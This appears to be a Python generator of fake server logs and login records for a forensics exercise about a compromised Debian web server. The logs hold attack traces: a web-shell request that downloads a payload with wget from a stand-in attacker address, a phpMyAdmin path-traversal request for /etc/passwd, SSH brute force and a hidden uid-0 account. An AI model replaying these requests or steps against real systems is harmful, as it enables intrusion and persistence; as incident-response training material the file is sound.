"""Web-server logs and login records for the hacked-debian scenario.

The story they tell (times UTC, the image's zone is Etc/UTC):
* 2024-02-20..25 ordinary traffic (access.log.3.gz), with one user agent
  carrying HTML and a terminal escape sequence, as scanners send;
* 2024-02-28 203.0.113.66 scans with WPScan and Nikto (access.log.2.gz);
* 2024-03-01 it exploits WP File Manager 6.0 (CVE-2020-25213) and talks to
  the uploaded shell x.php (access.log.1), and probes phpMyAdmin 4.8.1's
  LFI (CVE-2018-12613) on the admin vhost (admin_access.log);
* SSH brute force on root and invented users, then alice's password works
  (auth.log.1 / auth.log), sudo, a new uid-0 user; btmp keeps the failures,
  wtmp the session.
"""

from __future__ import annotations

import gzip
import ipaddress
import struct
from datetime import datetime, timedelta, timezone
from pathlib import Path

ATTACKER = "203.0.113.66"
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 Safari/537.36"
UTMP = struct.Struct("<hxxi32s4s32s256shhiii16s20x")


def _clf(t: datetime) -> str:
    return t.strftime("%d/%b/%Y:%H:%M:%S +0000")


def _line(t: datetime, ip: str, req: str, status: int, size: int, ua: str, ref: str = "-") -> str:
    return f'{ip} - - [{_clf(t)}] "{req}" {status} {size} "{ref}" "{ua}"\n'


def _normal(start: datetime, n: int) -> list[str]:
    pages = ["/", "/about/", "/contact/", "/wp-content/themes/twentynineteen/style.css", "/feed/"]
    return [
        _line(
            start + timedelta(minutes=37 * i),
            f"198.51.100.{10 + i % 40}",
            f"GET {pages[i % 5]} HTTP/1.1",
            200,
            5120 + i,
            UA,
        )
        for i in range(n)
    ]


def access_logs(log: Path) -> None:
    t3 = datetime(2024, 2, 20, 8, 0, tzinfo=timezone.utc)
    lines3 = _normal(t3, 60)
    lines3.insert(
        30,
        _line(
            t3 + timedelta(hours=19),
            "192.0.2.99",
            "GET /?s=test HTTP/1.1",
            200,
            4100,
            "<script>alert(1)</script>\x1b]0;pwned\x07\x1b[2J",
        ),
    )
    with gzip.open(log / "access.log.3.gz", "wt") as fh:
        fh.writelines(lines3)

    t2 = datetime(2024, 2, 28, 22, 10, tzinfo=timezone.utc)
    scan = [
        "GET /wp-login.php HTTP/1.1",
        "GET /readme.html HTTP/1.1",
        "GET /wp-json/wp/v2/users HTTP/1.1",
        "GET /wp-content/plugins/contact-form-7/readme.txt HTTP/1.1",
        "GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1",
        "GET /wp-content/plugins/akismet/readme.txt HTTP/1.1",
        "GET /.env HTTP/1.1",
        "GET /.git/HEAD HTTP/1.1",
    ]
    lines2 = _normal(t2 - timedelta(hours=20), 20)
    for i, req in enumerate(scan):
        status = 404 if "akismet" in req or ".env" in req or ".git" in req else 200
        lines2.append(
            _line(
                t2 + timedelta(seconds=i),
                ATTACKER,
                req,
                status,
                300 + i,
                "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
            )
        )
    for i, req in enumerate(
        ["GET /cgi-bin/test-cgi HTTP/1.1", "GET /phpmyadmin/ HTTP/1.1", "GET /admin/ HTTP/1.1"]
    ):
        lines2.append(
            _line(
                t2 + timedelta(minutes=5, seconds=i),
                ATTACKER,
                req,
                404,
                196,
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
            )
        )
    with gzip.open(log / "access.log.2.gz", "wt") as fh:
        fh.writelines(lines2)

    t1 = datetime(2024, 3, 1, 2, 0, tzinfo=timezone.utc)
    lines1 = _normal(t1 - timedelta(hours=3), 4)
    lines1 += [
        _line(
            t1,
            ATTACKER,
            "POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php HTTP/1.1",
            200,
            1011,
            "python-requests/2.31.0",
        ),
        _line(
            t1 + timedelta(seconds=9),
            ATTACKER,
            "GET /wp-content/plugins/wp-file-manager/lib/files/x.php?cmd=id HTTP/1.1",
            200,
            54,
            "python-requests/2.31.0",
        ),
        _line(
            t1 + timedelta(seconds=31),
            ATTACKER,
            "GET /wp-content/plugins/wp-file-manager/lib/files/x.php?"
            "cmd=wget%20http%3A%2F%2F203.0.113.66%2Fk%20-O%20%2Ftmp%2F.x%2Fkworker HTTP/1.1",
            200,
            0,
            "python-requests/2.31.0",
        ),
    ]
    (log / "access.log.1").write_text("".join(lines1))

    t = datetime(2024, 3, 1, 5, 0, tzinfo=timezone.utc)
    admin = [
        f'admin.example.com:80 {ATTACKER} - - [{_clf(t)}] "GET /dbadmin/ HTTP/1.1" 200 3520 "-" "curl/8.5.0"\n',
        f'admin.example.com:80 {ATTACKER} - - [{_clf(t + timedelta(seconds=4))}] "GET /dbadmin/index.php?'
        f'target=db_sql.php%253f/../../../../../../etc/passwd HTTP/1.1" 200 2810 "-" "curl/8.5.0"\n',
    ]
    (log / "admin_access.log").write_text("".join(admin))
    (log / "admin_error.log").write_text(
        "[Fri Mar 01 05:00:04.123456 2024] [php7:warn] [pid 812] [client 203.0.113.66:51234] "
        "PHP Warning:  include(): Failed opening 'db_sql.php%3f/../../../../../../etc/passwd'\n"
    )
    (log / "error.log").write_text(
        "[Fri Mar 01 02:00:09.500000 2024] [php7:notice] [pid 700] [client 203.0.113.66:50000] "
        "PHP Notice:  Undefined index: cmd in /var/www/html/wp-content/plugins/wp-file-manager/lib/files/x.php\n"
    )


def auth_logs(log: Path) -> None:
    old = [
        "Feb 29 06:25:01 web01 CRON[4410]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n",
        "Feb 29 06:25:01 web01 CRON[4410]: pam_unix(cron:session): session closed for user root\n",
        "Mar  1 06:25:01 web01 CRON[5120]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n",
    ]
    (log / "auth.log.1").write_text("".join(old))
    lines = []
    t = datetime(2024, 3, 2, 3, 0, 0)
    port = 40000
    for i, user in enumerate(["root", "admin", "root", "test", "root", "oracle", "root", "alice", "alice"]):
        stamp = (t + timedelta(seconds=7 * i)).strftime("%b %e %H:%M:%S")
        pid = 9000 + i
        port += 3
        if user in ("admin", "test", "oracle"):
            lines.append(f"{stamp} web01 sshd[{pid}]: Invalid user {user} from {ATTACKER} port {port}\n")
            lines.append(
                f"{stamp} web01 sshd[{pid}]: Failed password for invalid user {user} from {ATTACKER} "
                f"port {port} ssh2\n"
            )
        else:
            lines.append(
                f"{stamp} web01 sshd[{pid}]: Failed password for {user} from {ATTACKER} port {port} ssh2\n"
            )
        lines.append(
            f"{stamp} web01 sshd[{pid}]: Connection closed by authenticating user {user} {ATTACKER} "
            f"port {port} [preauth]\n"
        )
    ok = (t + timedelta(minutes=20)).strftime("%b %e %H:%M:%S")
    lines += [
        f"{ok} web01 sshd[9100]: Accepted password for alice from {ATTACKER} port 50122 ssh2\n",
        f"{ok} web01 sshd[9100]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)\n",
        f"{ok} web01 systemd-logind[402]: New session 7 of user alice.\n",
        "Mar  2 03:21:30 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash\n",
        "Mar  2 03:22:02 web01 useradd[9150]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, "
        "from=/dev/pts/0\n",
        "Mar  2 03:22:10 web01 chpasswd[9152]: pam_unix(chpasswd:chauthtok): password changed for sysupd\n",
        "Mar  2 03:40:00 web01 sshd[9100]: Disconnected from user alice 203.0.113.66 port 50122\n",
    ]
    (log / "auth.log").write_text("".join(lines))


def _utmp(typ: int, pid: int, line: str, uid: str, user: str, host: str, when: datetime, ip: str) -> bytes:
    addr = ipaddress.ip_address(ip).packed.ljust(16, b"\0")
    return UTMP.pack(
        typ,
        pid,
        line.encode(),
        uid.encode(),
        user.encode(),
        host.encode(),
        0,
        0,
        0,
        int(when.timestamp()),
        0,
        addr,
    )


def login_records(log: Path) -> None:
    boot = datetime(2024, 2, 1, 7, 0, tzinfo=timezone.utc)
    login = datetime(2024, 3, 2, 3, 20, 5, tzinfo=timezone.utc)
    wtmp = _utmp(2, 0, "~", "~~", "reboot", "6.1.0-18-amd64", boot, "0.0.0.0")
    wtmp += _utmp(7, 9101, "pts/0", "ts/0", "alice", ATTACKER, login, ATTACKER)
    wtmp += _utmp(8, 9101, "pts/0", "ts/0", "", "", login + timedelta(minutes=20), "0.0.0.0")
    (log / "wtmp").write_bytes(wtmp)
    btmp = b"".join(
        _utmp(
            6,
            9000 + i,
            "ssh:notty",
            "",
            user,
            ATTACKER,
            datetime(2024, 3, 2, 3, 0, 7 * i, tzinfo=timezone.utc),
            ATTACKER,
        )
        for i, user in enumerate(["root", "admin", "root", "test", "root", "oracle", "root", "alice"])
    )
    (log / "btmp").write_bytes(btmp)


def generate(root: Path) -> None:
    (root / "var/log/apache2").mkdir(parents=True, exist_ok=True)
    access_logs(root / "var/log/apache2")
    auth_logs(root / "var/log")
    login_records(root / "var/log")
